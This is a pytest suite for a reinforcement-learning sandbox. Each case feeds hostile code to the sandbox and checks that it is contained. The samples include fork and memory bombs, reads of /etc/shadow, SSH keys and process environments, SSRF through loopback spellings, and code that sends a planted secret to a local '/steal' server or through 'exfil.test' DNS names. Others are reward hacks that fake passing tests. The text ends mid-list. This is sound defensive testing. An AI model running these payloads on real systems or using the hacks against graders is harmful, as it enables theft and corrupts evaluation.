"""The sandbox attack suite: each case asserts its verdict and that the host is intact
(trainer alive, no process of the sandbox user left, host files and /tmp unchanged, planted secret absent)."""
import os, pwd, socket, threading, time, uuid
from pathlib import Path

import pytest

import rlkit
from rlkit.sandbox import Limits, SANDBOX_USER, Sandbox

pytestmark = pytest.mark.firejail

SECRET = f"rlkit-secret-{uuid.uuid4().hex}"
os.environ["RLKIT_PLANTED_SECRET"] = SECRET  # the trainer's environment holds a secret
PROJECT = Path(rlkit.__file__).resolve().parent.parent
CANARY = f"canary-{uuid.uuid4().hex}"
ADD_TESTS = "assert add(1, 2) == 3\nassert add(-1, 1) == 0\nassert add(10, 5) == 15"
GOOD = "\ndef add(a, b):\n    return a + b\n"
WRONG = "\ndef add(a, b):\n    return 0\n"


@pytest.fixture(scope="module", params=["warm", "cold"])
def sb(request):
    "Every attack runs against a warm sandbox (one zygote, a child per job) and against one sandbox per execution"
    s = Sandbox(None, Limits(timeout_s=3, memory_mb=512, output_bytes=20_000), warm=request.param == "warm")
    assert s.backend == "firejail", "CI has firejail: the sandbox must never fall back silently"
    yield s
    s.close()
    assert not _wait_no_leftovers(), "processes of the sandbox user survived closing the sandbox"


@pytest.fixture(scope="module")
def host():
    "Canary files on the host that no sandboxed code may read or change"
    canary = PROJECT / "tests" / ".canary_secret"
    canary.write_text(CANARY)
    ssh = Path.home() / ".ssh"
    ssh.mkdir(exist_ok=True)
    key = ssh / "rlkit_canary_key"
    key.write_text(CANARY)
    yield {"canary": canary, "key": key}
    canary.unlink()
    key.unlink()


def _live_sandbox_processes(exclude=frozenset()):
    uid = pwd.getpwnam(SANDBOX_USER).pw_uid if os.geteuid() == 0 else os.getuid()
    out = []
    for p in Path("/proc").iterdir():
        if not p.name.isdigit() or int(p.name) == os.getpid() or int(p.name) in exclude:
            continue
        try:
            st = (p / "status").read_text()
            fields = dict(l.split(":", 1) for l in st.splitlines() if ":" in l)
            if int(fields["Uid"].split()[0]) == uid and fields["State"].strip()[0] != "Z" and os.geteuid() == 0:
                out.append(p.name)
        except (OSError, KeyError, ValueError):
            pass
    return out


def _wait_no_leftovers(deadline_s=5.0, exclude=frozenset()):
    "Live processes of the sandbox user other than `exclude` (a warm pool's own), once given time to die"
    end = time.time() + deadline_s
    while _live_sandbox_processes(exclude) and time.time() < end:
        time.sleep(0.1)
    return _live_sandbox_processes(exclude)


def _run_dirs(): return {p for p in os.listdir("/tmp") if p.startswith("rlkit-sbx-")}
RUN_DIRS_BEFORE = _run_dirs()  # another process's sandboxes are not ours to count


def new_run_dirs():
    "Private run directories in /tmp made since this test session started"
    return sorted(_run_dirs() - RUN_DIRS_BEFORE)


def _tmp_listing():
    "Entries of the host's /tmp that the sandbox user owns (none should ever appear)"
    uid = pwd.getpwnam(SANDBOX_USER).pw_uid if os.geteuid() == 0 else None
    out = set()
    for p in os.listdir("/tmp"):
        try:
            st = os.lstat(os.path.join("/tmp", p))
        except OSError:
            continue
        if (uid is not None and st.st_uid == uid and not p.startswith("rlkit-sbx-")) or "persist" in p or "escape" in p:
            out.add(p)
    return sorted(out)


def check(sb, host, code, verdicts, tests=ADD_TESTS, forbid=()):
    tmp_before = _tmp_listing()
    r = sb.run(code, tests, "add")
    text = r.stdout + r.stderr + r.detail
    assert r.verdict in verdicts, f"verdict {r.verdict!r} ({r.detail[:300]}), expected one of {verdicts}"
    assert SECRET not in text and CANARY not in text
    for s in forbid:
        assert s not in text, f"{s!r} leaked into the output"
    assert host["canary"].read_text() == CANARY and host["key"].read_text() == CANARY
    assert not _wait_no_leftovers(exclude=sb.pool_pids()), "processes of the sandbox user survived the run"
    assert _tmp_listing() == tmp_before, "the host's /tmp changed"
    assert len(new_run_dirs()) <= len(sb._idle), "a private run directory was left behind"
    for w in sb._idle:  # between jobs a warm sandbox holds only its harness and firejail's read-only skeleton files
        assert set(os.listdir(w.box.workdir)) <= {"harness.py", ".bashrc", ".inputrc"}
    return r


# (id, code, verdicts, forbidden strings)
RESOURCE = [
    ("fork_bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass" + GOOD, {"timeout"}),
    ("thread_bomb", "import threading, time\n"
                    "while True: threading.Thread(target=time.sleep, args=(100,)).start()" + GOOD, {"error", "memory"}),
    ("memory_growth", "x = []\nwhile True: x.append(bytearray(10**7))" + GOOD, {"memory"}),
    ("memory_in_call", "def add(a, b):\n    x = []\n    while True: x.append(bytearray(10**7))", {"memory"}),
    ("memory_across_processes", "import os, time\nfor _ in range(20):\n    if os.fork() == 0:\n"
                                "        try: x = bytearray(400 * 10**6)\n        except MemoryError: pass\n"
                                "        time.sleep(100)\n" + GOOD + "time.sleep(100)", {"timeout"}),
    ("cpu_in_c_regex", "import re\nre.match(r'(a+)+$', 'a' * 64 + 'b')" + GOOD, {"timeout"}),
    ("cpu_in_c_bigint", "x = 10 ** (10 ** 9)" + GOOD, {"timeout", "memory"}),
    ("sleep_forever", "import time\ntime.sleep(10**6)" + GOOD, {"timeout"}),
    ("sleep_in_call", "import time\ndef add(a, b):\n    time.sleep(10**6)", {"timeout"}),
    ("stdout_flood", "while True: print('x' * 10000)" + GOOD, {"output_limit"}),
    ("stderr_flood", "import sys\nwhile True: sys.stderr.write('y' * 10000)" + GOOD, {"output_limit"}),
    ("huge_file", "f = open('big', 'wb')\nwhile True: f.write(b'0' * 10**6)" + GOOD, {"error"}),
    ("many_small_files", "i = 0\nwhile True:\n    open(f'f{i}', 'w').write('x'); i += 1" + GOOD, {"timeout", "error"}),
    ("file_descriptors", "fs = []\ntry:\n    while True: fs.append(open('/dev/null'))\n"
                         "except OSError as e: print('fd limit hit', len(fs))" + GOOD, {"passed"}),
    ("deep_recursion", "def add(a, b):\n    return add(a, b)", {"error"}),
    ("segfault_ctypes", "import ctypes\nctypes.string_at(0)" + GOOD, {"error"}),
    ("segfault_in_call", "import ctypes\ndef add(a, b):\n    return ctypes.string_at(0)", {"error"}),
]
PROCESSES = [
    ("kill_parent", "import os, signal\ntry: os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError: pass" + GOOD,
     {"passed", "violation", "error"}),
    ("kill_process_group", "import os, signal\nos.killpg(0, signal.SIGKILL)" + GOOD, {"violation", "error"}),
    ("kill_everything", "import os, signal\ntry: os.kill(-1, signal.SIGKILL)\nexcept OSError: pass" + GOOD,
     {"passed", "violation", "error"}),
    ("ignore_signals", "import signal\n"
                       "for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP): signal.signal(s, signal.SIG_IGN)\n"
                       "while True: pass" + GOOD, {"timeout"}),
    ("daemon_double_fork", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                           "        time.sleep(1000)\n    os._exit(0)" + GOOD, {"passed"}),
    ("daemon_popen", "import subprocess\nsubprocess.Popen(['sleep', '1000'], start_new_session=True)" + GOOD,
     {"passed", "error"}),
    ("orphan_after_tests", "import os, time\ndef add(a, b):\n    if os.fork() == 0: time.sleep(1000)\n    return a + b",
     {"passed"}),
]
FILES = [
    ("etc_shadow", "try: print(open('/etc/shadow').read())\nexcept OSError as e: print('blocked', e)" + GOOD,
     {"passed"}, ("root:",)),
    ("project_listing", f"import os\ntry: print(os.listdir({str(PROJECT)!r}))\n"
                        "except OSError as e: print('blocked', e)" + GOOD, {"passed"}, ("pyproject.toml",)),
    ("project_file", f"try: print(open({str(PROJECT / 'tests' / '.canary_secret')!r}).read())\n"
                     "except OSError as e: print('blocked', e)" + GOOD, {"passed"}, ()),
    ("host_ssh_key", f"try: print(open({str(Path.home() / '.ssh' / 'rlkit_canary_key')!r}).read())\n"
                     "except OSError as e: print('blocked', e)" + GOOD, {"passed"}, ()),
    ("own_ssh_dir", "import os\nprint(os.listdir(os.path.expanduser('~')))\n"
                    "try: print(os.listdir(os.path.expanduser('~/.ssh')))\n"
                    "except OSError as e: print('none', e)" + GOOD, {"passed"}, ("rlkit_canary_key",)),
    ("proc1_environ", "try: print(open('/proc/1/environ').read())\nexcept OSError as e: print('blocked', e)" + GOOD,
     {"passed"}, ()),
    ("proc_scan_environ", "import os\nfor p in os.listdir('/proc'):\n"
                          "    try: print(open(f'/proc/{p}/environ').read())\n    except OSError: pass" + GOOD,
     {"passed"}, ()),
    ("environment_dump", "import os\nprint(dict(os.environ))" + GOOD, {"passed"}, ()),
    ("symlink_out", "import os\nos.symlink('/etc/shadow', 'x')\ntry: print(open('x').read())\n"
                    "except OSError as e: print('blocked', e)" + GOOD, {"passed"}, ("root:",)),
    ("symlink_to_project", f"import os\nos.symlink({str(PROJECT / 'tests' / '.canary_secret')!r}, 'y')\n"
                           "try: print(open('y').read())\nexcept OSError as e: print('blocked', e)" + GOOD,
     {"passed"}, ()),
    # /tmp is read-only, and the attempt is flagged
    ("write_host_tmp", "open('/tmp/rlkit_escape_probe', 'w').write('x')" + GOOD, {"violation"}, ()),
    ("write_project", f"try: open({str(PROJECT / 'ESCAPED')!r}, 'w').write('x')\n"
                      "except OSError as e: print('blocked', e)" + GOOD, {"violation"}, ()),
    ("root_home", "import os\ntry: print(os.listdir('/root'))\nexcept OSError as e: print('blocked', e)" + GOOD,
     {"passed"}, (".bashrc", ".ssh")),
    ("model_cache", "import os\ntry: print(os.listdir(os.path.expanduser('/root/.cache/rlkit')))\n"
                    "except OSError as e: print('blocked', e)" + GOOD, {"passed"}, ("smollm2",)),
    ("run_as_root", "import os\nprint('uid', os.getuid())\nassert os.getuid() != 0" + GOOD, {"passed"}, ("uid 0",)),
]
NETWORK = [
    ("dns_lookup", "import socket\ntry: print(socket.getaddrinfo('pypi.org', 443))\n"
                   "except OSError as e: print('blocked', e)" + GOOD, {"violation"}, ("AF_INET",)),
    ("raw_socket", "import socket\ntry: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); "
                   "print('RAW OPEN')\nexcept OSError as e: print('blocked', e)" + GOOD, {"violation"}, ("RAW OPEN",)),
    ("packet_socket", "import socket\ntry: socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('PACKET OPEN')\n"
                      "except OSError as e: print('blocked', e)" + GOOD, {"violation"}, ("PACKET OPEN",)),
    ("inet6_socket", "import socket\ntry: socket.socket(socket.AF_INET6, socket.SOCK_STREAM).connect(('::1', 22)); "
                     "print('CONNECTED')\nexcept OSError as e: print('blocked', e)" + GOOD,
     {"violation"}, ("CONNECTED",)),
]
HACKS = [  # the candidate's add is wrong: no hack may turn that into `passed`
    ("exit0_before_tests", "import sys\nsys.exit(0)" + WRONG, {"violation"}),
    ("os_exit0", "import os" + WRONG + "os._exit(0)", {"violation"}),
    ("raise_systemexit", WRONG + "raise SystemExit(0)", {"violation"}),
    ("exit_in_call", "import os\ndef add(a, b):\n    os._exit(0)", {"violation"}),
    # raised ValueError: 72 is no signal
    ("exit_200_in_call", "import os\ndef add(a, b):\n    os._exit(200)", {"violation"}),
    # 42: a real-time signal's number
    ("exit_170_in_call", "import os\ndef add(a, b):\n    os._exit(170)", {"violation", "error"}),
    ("atexit_exit0", "import atexit, os\natexit.register(lambda: os._exit(0))" + WRONG, {"failed"}),
    ("execv_true", "import os" + WRONG + "os.execv('/bin/true', ['true'])", {"violation", "error"}),
    ("fake_success_marker",
     "print('All tests passed!')\nprint('PASSED 3/3')\nprint('{\"verdict\": \"passed\"}')" + WRONG, {"failed"}),
    ("eq_always_true", "class Yes:\n    def __eq__(self, o): return True\n    def __ne__(self, o): return False\n"
                       "def add(a, b):\n    return Yes()", {"failed"}),
    ("int_subclass_eq", "class I(int):\n    def __eq__(self, o): return True\ndef add(a, b):\n    return I(0)",
     {"failed"}),
    ("monkeypatch_builtins", "import builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {})\n"
                             "builtins.print = lambda *a: None" + WRONG, {"violation"}),
    ("monkeypatch_harness_encoder", "import __main__\n__main__.encode_value = lambda v, depth=0: 3" + WRONG,
     {"failed"}),
    ("forge_channel_messages", "import os\nfor fd in range(3, 256):\n    try: os.write(fd, b'{\"ready\": [\"add\"], "
                               "\"tampered\": []}\\n{\"value\": 3}\\n{\"value\": 0}\\n{\"value\": 1}\\n')\n"
                               "    except OSError: pass" + WRONG, {"violation", "failed"}),
    ("garbage_on_channel", "import os\nfor fd in range(3, 256):\n    try: os.write(fd, b'not json at all\\n')\n"
                           "    except OSError: pass" + WRONG, {"violation"}),
    ("stack_frames", "import inspect\ndef add(a, b):\n    for f in inspect.stack():\n"
                     "        for v in list(f.frame.f_locals.values()) + list(f.frame.f_globals.values()):\n"
                     "            if isinstance(v, int) and v not in (a, b): return v\n    return 0", {"failed"}),
    ("edit_test_file", "import os\nfor root, dirs, files in os.walk('/'):\n    for f in files:\n"
                       "        if f.startswith('test') and f.endswith('.py'):\n"
                       "            try: open(os.path.join(root, f), 'a').write('\\nassert True\\n')\n"
                       "            except OSError: pass\n    if root.count('/') > 3: dirs[:] = []" + WRONG,
     {"violation", "timeout"}),
    ("read_requests_ahead", "import os\ndef add(a, b):\n    return 0", {"failed"}),
]
BROKEN = [
    ("syntax_error", "def add(a, b) return a + b", {"syntax_error"}),
    ("null_bytes", "def add(a, b):\x00 return a + b", {"syntax_error"}),
    # RecursionError or MemoryError, not SyntaxError
    ("nested_deeper_than_the_compiler", "x = " + "-" * 100_000 + "1" + GOOD, {"syntax_error"}),
    ("invalid_utf8_output", "import sys\nsys.stdout.buffer.write(b'\\xff\\xfe\\xfd\\n'); sys.stdout.flush()" + GOOD,
     {"passed"}),
    ("empty_code", "", {"error"}),
    ("missing_entry_point", "def plus(a, b):\n    return a + b", {"error"}),
    ("missing_import", "import numpyy_does_not_exist" + GOOD, {"error"}),
    ("name_error_in_call", "def add(a, b):\n    return a + c", {"error"}),
    ("partial_credit", "def add(a, b):\n    return abs(a) + b", {"failed"}),
]


@pytest.mark.parametrize("name,code,verdicts", RESOURCE, ids=[c[0] for c in RESOURCE])
def test_resource_exhaustion(sb, host, name, code, verdicts):
    check(sb, host, code, verdicts)


@pytest.mark.parametrize("name,code,verdicts", PROCESSES, ids=[c[0] for c in PROCESSES])
def test_processes_and_signals(sb, host, name, code, verdicts):
    check(sb, host, code, verdicts)


@pytest.mark.parametrize("name,code,verdicts,forbid", FILES, ids=[c[0] for c in FILES])
def test_filesystem_and_secrets(sb, host, name, code, verdicts, forbid):
    check(sb, host, code, verdicts, forbid=forbid)
    assert not (PROJECT / "ESCAPED").exists() and not Path("/tmp/rlkit_escape_probe").exists()


@pytest.mark.parametrize("name,code,verdicts,forbid", NETWORK, ids=[c[0] for c in NETWORK])
def test_network(sb, host, name, code, verdicts, forbid):
    check(sb, host, code, verdicts, forbid=forbid)


def _listener(kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    s.settimeout(0.1)
    if kind == "tcp":
        s.listen(5)
    return s


@pytest.mark.parametrize("kind", ["tcp", "udp"])
def test_network_loopback_listener_gets_nothing(sb, host, kind):
    srv = _listener(kind)
    port = srv.getsockname()[1]
    sock = "SOCK_STREAM" if kind == "tcp" else "SOCK_DGRAM"
    code = (f"import socket\ntry:\n    s = socket.socket(socket.AF_INET, socket.{sock})\n"
            f"    s.connect(('127.0.0.1', {port}))\n"
            f"    s.send(b'hello from the sandbox'); print('SENT')\nexcept OSError as e: print('blocked', e)" + GOOD)
    check(sb, host, code, {"violation"}, forbid=("SENT",))  # the socket is refused, and the attempt flagged
    got = None
    try:
        got = srv.accept() if kind == "tcp" else srv.recvfrom(100)
    except (socket.timeout, BlockingIOError):
        pass
    srv.close()
    assert got is None, "the listener on the host's loopback received something"


def test_persistence_between_runs(sb, host):
    # every world-writable place
    places = ('~/persist', '/tmp/persist', '/dev/shm/persist', '/var/tmp/persist', '/run/lock/persist')
    # writes outside ~ are flagged
    check(sb, host, f"import os\nfor p in {places!r}:\n    try: open(os.path.expanduser(p), 'w').write('x')\n"
                    "    except OSError: pass" + GOOD, {"violation"})
    check(sb, host, f"import os\nfor p in {places!r}:\n    if os.path.exists(os.path.expanduser(p)): "
                    "print('PERSISTED', p)" + GOOD, {"passed"}, forbid=("PERSISTED",))
    assert not Path("/var/tmp/persist").exists() and not Path("/run/lock/persist").exists()


@pytest.mark.parametrize("name,code,verdicts", HACKS, ids=[c[0] for c in HACKS])
def test_reward_hacks_never_pass(sb, host, name, code, verdicts):
    r = check(sb, host, code, verdicts)
    assert r.verdict != "passed" and r.tests_passed < r.tests_total


@pytest.mark.parametrize("name,code,verdicts", BROKEN, ids=[c[0] for c in BROKEN])
def test_broken_input(sb, host, name, code, verdicts):
    check(sb, host, code, verdicts)


# --- tiers, quotas and the audit log (nbs/02a_isolation) -------------------------------------------------------------
import http.server, shutil as _shutil
from rlkit.agents.tiers import NetworkTier
from rlkit.isolation import Tier

FETCH = "import urllib.request\ndef fetch(url):\n    return urllib.request.urlopen(url, timeout=5).read().decode()\n"


class _Server:
    "A local HTTP server that records every request it gets (there is no internet here: local servers stand for hosts)"
    def __init__(self, body=b"ok"):
        seen = self.seen = []
        class H(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                seen.append(("GET", self.path))
                self._ok()
            def do_POST(self):
                seen.append(("POST", self.path, self.rfile.read(int(self.headers.get("Content-Length", 0)))))
                self._ok()
            def _ok(self):
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
            def log_message(self, *a): pass
        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.port = self.srv.server_address[1]
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()
    def close(self):
        self.srv.shutdown()
        self.srv.server_close()


@pytest.fixture()
def servers():
    allowed, denied, trusted = _Server(b"allowed"), _Server(b"denied"), _Server(b"the trainer's own service")
    yield allowed, denied, trusted
    for s in (allowed, denied, trusted):
        s.close()


@pytest.fixture(scope="module")
def net_sb():
    s = Sandbox(None, Limits(timeout_s=10, output_bytes=20_000))
    yield s
    s.close()
    assert not _wait_no_leftovers()


def _net(sb, host, code, tests, tier, verdicts, entry="fetch"):
    tmp_before = _tmp_listing()
    r = sb.run(code, tests, entry, tier=tier)
    assert r.verdict in verdicts, f"verdict {r.verdict!r} ({r.detail[:300]}), expected one of {verdicts}"
    assert SECRET not in r.stdout + r.stderr + r.detail and host["canary"].read_text() == CANARY
    assert (not _wait_no_leftovers(exclude=sb.pool_pids()) and _tmp_listing() == tmp_before
            and len(new_run_dirs()) <= len(sb._idle))
    return r


def test_network_tier_reaches_an_allowed_host(net_sb, host, servers):
    allowed, denied, _ = servers
    r = _net(net_sb, host, FETCH, f"assert fetch('http://127.0.0.1:{allowed.port}/hi') == 'allowed'",
             NetworkTier((f"127.0.0.1:{allowed.port}",)), {"passed"})
    assert allowed.seen == [("GET", "/hi")] and r.audit["network"][0]["allowed"] and not r.audit["flags"]


def test_exfiltration_to_a_host_not_allowed(net_sb, host, servers):
    allowed, denied, _ = servers
    code = ("import os, urllib.request\ndef fetch(url):\n"
            "    data = os.environ.get('RLKIT_PLANTED_SECRET', 'none').encode() + open('/etc/hostname', 'rb').read()\n"
            "    try: urllib.request.urlopen(urllib.request.Request(url, data=data), timeout=5)\n"
            "    except Exception as e: pass\n    return 'allowed'\n")
    r = _net(net_sb, host, code, f"assert fetch('http://127.0.0.1:{denied.port}/steal') == 'allowed'",
             NetworkTier((f"127.0.0.1:{allowed.port}",)), {"violation"})
    assert denied.seen == [] and [e["allowed"] for e in r.audit["network"]] == [False]


def test_dns_lookups_are_not_a_side_channel(net_sb, host, servers, monkeypatch):
    ("Names are never resolved inside (no resolver is reachable), and the proxy resolves only allowed names: a lookup "
     "carries nothing out")
    allowed, _, _ = servers
    looked_up = []
    real = socket.getaddrinfo
    # the trusted side's resolver
    monkeypatch.setattr(socket, "getaddrinfo", lambda h, *a, **k: looked_up.append(h) or real(h, *a, **k))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.2)
    code = (f"import socket\ndef fetch(url):\n    for name in ('{SECRET[:20]}.exfil.test', 'pypi.org'):\n"
            f"        try: socket.getaddrinfo(name, 53)\n        except OSError: pass\n"
            f"    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{SECRET[:20]}', ('127.0.0.1', "
            f"{udp.getsockname()[1]}))\n    except OSError: pass\n"
            f"    s = socket.create_connection(('127.0.0.1', 3128)); s.sendall(b'CONNECT {SECRET[:20]}.exfil.test:443 "
            "HTTP/1.1\\r\\n\\r\\n')\n"
            f"    return s.recv(100).decode()\n")
    for tier in (NetworkTier((f"127.0.0.1:{allowed.port}",)), Tier()):
        r = _net(net_sb, host, code, "assert '200' in fetch('x')", tier, {"violation", "error"})
        assert r.verdict != "passed"
    try:
        got = udp.recvfrom(100)
    except (socket.timeout, BlockingIOError):
        got = None
    udp.close()
    assert got is None and not any("exfil" in str(h) for h in looked_up), looked_up


def test_connect_to_an_allowed_host_on_another_port(net_sb, host, servers):
    allowed, denied, _ = servers
    code = (f"import socket\ndef fetch(url):\n    s = socket.create_connection(('127.0.0.1', 3128))\n"
            f"    s.sendall(b'CONNECT 127.0.0.1:{denied.port} HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n')\n"
            "    return s.recv(1000).decode()\n")
    r = _net(net_sb, host, code, "assert 'denied' in fetch('x')", NetworkTier((f"127.0.0.1:{allowed.port}",)),
             {"violation"})
    assert denied.seen == [] and r.audit["network"][0]["port"] == denied.port and not r.audit["network"][0]["allowed"]


def test_requests_to_the_trusted_sides_own_ports(net_sb, host, servers):
    "SSRF: the trainer's own services on the host's loopback, by every spelling of it, directly and through the proxy"
    allowed, _, trusted = servers
    p = trusted.port
    urls = [f"http://{h}:{p}/admin"
            for h in ("127.0.0.1", "localhost", "127.1", "0.0.0.0", "2130706433", "0x7f000001", "[::1]", "LOCALHOST.")]
    code = (FETCH.replace("def fetch(url):\n    return", "def one(url):\n    return") +
            "import socket\ndef fetch(urls):\n    got = []\n    for u in urls:\n        try: got.append(one(u))\n"
            "        except Exception: pass\n"
            f"    try: socket.create_connection(('127.0.0.1', {p}), timeout=2).sendall(b'GET /direct "
            "HTTP/1.0\\r\\n\\r\\n')\n    except OSError: pass\n    return got\n")
    r = _net(net_sb, host, code, f"assert fetch({urls!r}) == []", NetworkTier((f"127.0.0.1:{allowed.port}",)),
             {"violation"})
    assert (trusted.seen == [] and len(r.audit["network"]) == len(urls)
            and not any(e["allowed"] for e in r.audit["network"]))


def test_abuse_of_the_proxy_socket(net_sb, host, servers):
    ("Garbage, a huge header, a flood of connections and a stalled one on the proxy's socket: each refused, and the "
     "proxy still serves")
    allowed, denied, _ = servers
    code = (FETCH + "import os, socket\ndef abuse():\n    path = os.path.expanduser('~/.rlkit-proxy.sock')\n"
            "    socks = []\n"
            "    for payload in (b'\\x00\\xff garbage\\r\\n\\r\\n', b'GET http://x/ HTTP/1.1\\r\\n' + b'A' * 20000, "
            "b'CONNECT ', b'GET / HTTP/1.1\\r\\n\\r\\n'):\n"
            "        s = socket.socket(socket.AF_UNIX); s.connect(path); s.sendall(payload); socks.append(s)\n"
            "    for _ in range(60):\n"
            "        try: s = socket.socket(socket.AF_UNIX); s.connect(path); socks.append(s)\n"
            "        except OSError: break\n"
            # wait until the proxy has turned the last one away
            "    socks[-1].settimeout(3)\n    try: socks[-1].recv(1)\n    except OSError: pass\n"
            "    return len(socks)\n")
    tier, threads = NetworkTier((f"127.0.0.1:{allowed.port}",)), threading.active_count()
    t0 = time.time()
    r = _net(net_sb, host, code, "assert abuse() > 0", tier, {"violation"})
    assert time.time() - t0 < 8, "stalled connections held the trusted side"
    assert denied.seen == [] and any(not e["allowed"] for e in r.audit["network"]) and len(r.audit["network"]) <= 200
    assert any("connections" in e["why"] for e in r.audit["network"])  # the flood was cut at the per-job cap
    assert threading.active_count() <= threads + 1, "the proxy's threads outlived the job"
    # the next job is served
    _net(net_sb, host, FETCH, f"assert fetch('http://127.0.0.1:{allowed.port}/after') == 'allowed'", tier, {"passed"})


def test_filling_the_disk_quota(sb, host):
    "Files of the largest allowed size, one after another, until the job's quota is full: the host's disk is untouched"
    code = ("import os\ni = 0\nwhile True:\n    with open(f'f{i}', 'wb') as f: f.write(bytes(15 * 2**20))\n"
            "    i += 1" + GOOD)
    before = _shutil.disk_usage("/tmp").used
    r = check(sb, host, code, {"error"})
    assert "No space left" in r.detail + r.stderr or "No space left" in str(r.audit), r.detail[:300]
    if sb.quota:
        assert sum(f["bytes"] for f in r.audit["files"]) <= sb.limits.disk_mb << 20
    assert _shutil.disk_usage("/tmp").used - before < 16 << 20


def test_exhausting_another_jobs_process_budget(sb, host):
    ("A fork bomb in one job while the job beside it needs 20 processes: budgets are per job, so the other job still "
     "passes")
    if not sb.cgroups:
        pytest.skip("per-job process budgets need root (a pids cgroup per job)")
    bomb = ("import os, time\ndef add(a, b):\n    try:\n        while True:\n"
            "            if os.fork() == 0: time.sleep(20); os._exit(0)\n    except OSError: time.sleep(3)\n"
            "    return 0\n")
    needs = ("import subprocess\ndef add(a, b):\n"
             "    assert sum(subprocess.run(['true']).returncode == 0 for _ in range(20)) == 20\n    return a + b\n")
    res = Sandbox(None, Limits(timeout_s=8), warm=sb.warm, policy=None).run_batch(
        [(bomb, ADD_TESTS, "add"), (needs, ADD_TESTS, "add")], workers=2)
    assert res[0].verdict != "passed" and res[1].verdict == "passed", [(x.verdict, x.detail[:200]) for x in res]
    assert not _wait_no_leftovers(exclude=sb.pool_pids())


# Each case below, if let through, would make a wrong answer pass, change another job's verdict or reach the host
LOOP_CHECK = ("def check(candidate):\n    for (a, b), want in [((1, 2), 3), ((5, 5), 10), ((-1, 1), 0)]:\n"
              "        got = candidate(a, b)\n        assert got == want\n")
HACKS_WITH_TESTS = [  # (id, code, tests, entry point): the candidate is wrong every time
    ("shadow_a_builtin_the_tests_use", "def abs(x):\n    return 0\ndef average(xs):\n    return 12345",
     "assert abs(average([1, 2, 3]) - 2.0) < 1e-6\nassert abs(average([4]) - 4.0) < 1e-6", "average"),
    ("shadow_sorted_and_set", "def sorted(x):\n    return 0\ndef set(x):\n    return 0\ndef uniq(xs):\n    return [1]",
     "assert sorted(uniq([3, 1, 3])) == sorted([1, 3])\nassert set(uniq([2, 2])) == set([2])", "uniq"),
    ("crash_after_every_assert_was_seen",
     "n = 0\ndef add(a, b):\n    global n\n    n += 1\n    if n > 1: raise ValueError('nope')\n    return 3",
     LOOP_CHECK, "add"),
    ("stopiteration_ends_a_map", "def add(a, b):\n    raise StopIteration",
     "assert all(map(lambda t: add(*t[0]) == t[1], [((1, 2), 3), ((2, 2), 4)]))", "add"),
]


@pytest.mark.parametrize("name,code,tests,entry", HACKS_WITH_TESTS, ids=[c[0] for c in HACKS_WITH_TESTS])
def test_reward_hacks_through_the_tests_never_pass(sb, host, name, code, tests, entry):
    r = sb.run(code, tests, entry)
    assert r.verdict in {"failed", "error"} and r.tests_passed < r.tests_total, \
        (r.verdict, r.tests_passed, r.detail[:300])


def test_a_correct_answer_still_passes_a_check_loop(sb, host):
    assert sb.run(GOOD, LOOP_CHECK, "add").verdict == "passed"


def test_humaneval_helpers_come_from_the_task_not_the_candidate(sb):
    ("HumanEval/32, /38, /50: tests call a helper of the task's prompt; a candidate that redefines it (and the entry "
     "point to match) must fail")
    from rlkit.rewards import execute
    from rlkit.tasks import humaneval
    he = {t.id: t for t in humaneval()}
    hacks = {"HumanEval/32": "def poly(xs, x):\n    return 0\ndef find_zero(xs):\n    return 0.0",
             "HumanEval/38": "def encode_cyclic(s):\n    return s\ndef decode_cyclic(s):\n    return s",
             "HumanEval/50": "def encode_shift(s):\n    return s\ndef decode_shift(s):\n    return s"}
    tasks = [he[k] for k in hacks]
    res = execute(tasks, [f"```python\n{c}\n```" for c in hacks.values()], sb)
    assert all(r.verdict != "passed" for r in res), [(t.id, r.verdict) for t, r in zip(tasks, res)]
    right = ["def find_zero(xs):\n    lo, hi = -1.0, 1.0\n"
             "    while poly(xs, lo) * poly(xs, hi) > 0: lo, hi = 2 * lo, 2 * hi\n"
             "    for _ in range(200):\n        mid = (lo + hi) / 2\n"
             "        if poly(xs, mid) * poly(xs, lo) > 0: lo = mid\n        else: hi = mid\n    return lo",
             # the helpers of the prompt, called from the answer
             "def decode_cyclic(s):\n    return encode_cyclic(encode_cyclic(s))",
             "def decode_shift(s):\n    return ''.join(chr((ord(c) - 5 - ord('a')) % 26 + ord('a')) for c in s)"]
    right = execute(tasks, [f"```python\n{c}\n```" for c in right], sb)
    assert all(r.verdict == "passed" for r in right), [(t.id, r.verdict, r.detail[:200]) for t, r in zip(tasks, right)]


# what a job may write on the harness's reply channel: never a crash of the trusted side, and the next job is served
FORGED = [
    ("nested_json", "import __main__, os\nos.write(__main__.rep.fileno(), b'[' * 100000 + b'\\n')" + GOOD),
    ("ready_with_bad_fields", "import __main__, json\n__main__.rep.write(json.dumps({'ready': ['add'], 'tampered': 5, "
                              "'job': __main__.JOB}) + '\\n')\n__main__.rep.flush()" + GOOD),
    ("forged_exit_status", "import __main__, json\ndef add(a, b):\n    __main__.rep.write(json.dumps({'child_exit': "
                           "'x', 'job': __main__.JOB}) + '\\n')\n    __main__.rep.flush()\n    return a + b"),
]


@pytest.mark.parametrize("name,code", FORGED, ids=[c[0] for c in FORGED])
def test_forged_channel_messages_are_violations(sb, host, name, code):
    check(sb, host, code, {"violation"})
    check(sb, host, GOOD, {"passed"})


TAMPER_ZYGOTE = [  # a job changing its warm sandbox's own state: later jobs must not inherit it
    ("lower_a_limit", "import os, resource\nresource.prlimit(os.getppid(), resource.RLIMIT_DATA, (2**20, 2**20))"),
